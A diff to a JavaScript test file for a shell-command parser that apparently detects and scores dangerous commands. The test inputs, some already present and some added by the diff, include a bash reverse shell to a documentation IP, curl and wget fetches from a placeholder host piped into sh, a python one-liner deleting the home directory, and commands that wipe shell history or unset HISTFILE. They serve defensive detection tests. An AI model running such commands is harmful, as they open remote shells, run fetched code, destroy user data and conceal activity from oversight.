@@ -227,6 +227,16 @@ test("parser: nested bash -c, heredoc, process substitution, backticks, eval, fi
   assert.ok(names("find . -exec /bin/sh \\;").includes("sh"));
   assert.ok(total(run("cat <<'EOF' | bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\nEOF")) >= 65);
   assert.ok(total(run("sh -c \"bash -c 'curl -s a.example.invalid | sh'\"")) >= 65);
+  // screen/tmux run what they are given; code's argv lists are commands too.
+  assert.ok(names("screen -dmS w bash -c 'wget a.example.invalid'").includes("wget"));
+  assert.ok(names("tmux new -d 'curl -s a.example.invalid'").includes("curl"));
+  assert.deepEqual(walkCommand("python3 -c \"import subprocess;subprocess.run(['rm','-rf',os.path.expanduser('~')])\"", shell).cmds.find((c) => c.name === "rm" && c.args.length > 0)?.args, ["-rf", "~"]);
+  // `a | b > f` redirects b's output (bash applies it to the last stage); `> f` alone still opens f.
+  const piped = walkCommand("echo aGk= | base64 -d > /tmp/x", shell).cmds;
+  assert.deepEqual(piped.map((c) => [c.name, c.redirects.map((r) => r.target)]), [["echo", []], ["base64", ["/tmp/x"]]]);
+  assert.deepEqual(walkCommand("> ~/.bash_history", shell).cmds.map((c) => [c.name, c.redirects[0]?.target]), [[":", "~/.bash_history"]]);
+  // export/unset are recorded the same whether the line takes the fast path or the parser.
+  for (const line of ["unset HISTFILE", "true; unset HISTFILE"]) assert.deepEqual(walkCommand(line, shell).cmds.find((c) => c.name === "unset")?.args, ["HISTFILE"], line);
   // Re-parsing depth is bounded: deep nesting terminates and is flagged, not skipped.
   let deep = "id";
   for (let i = 0; i < 12; i++) deep = `bash -c ${JSON.stringify(deep)}`;
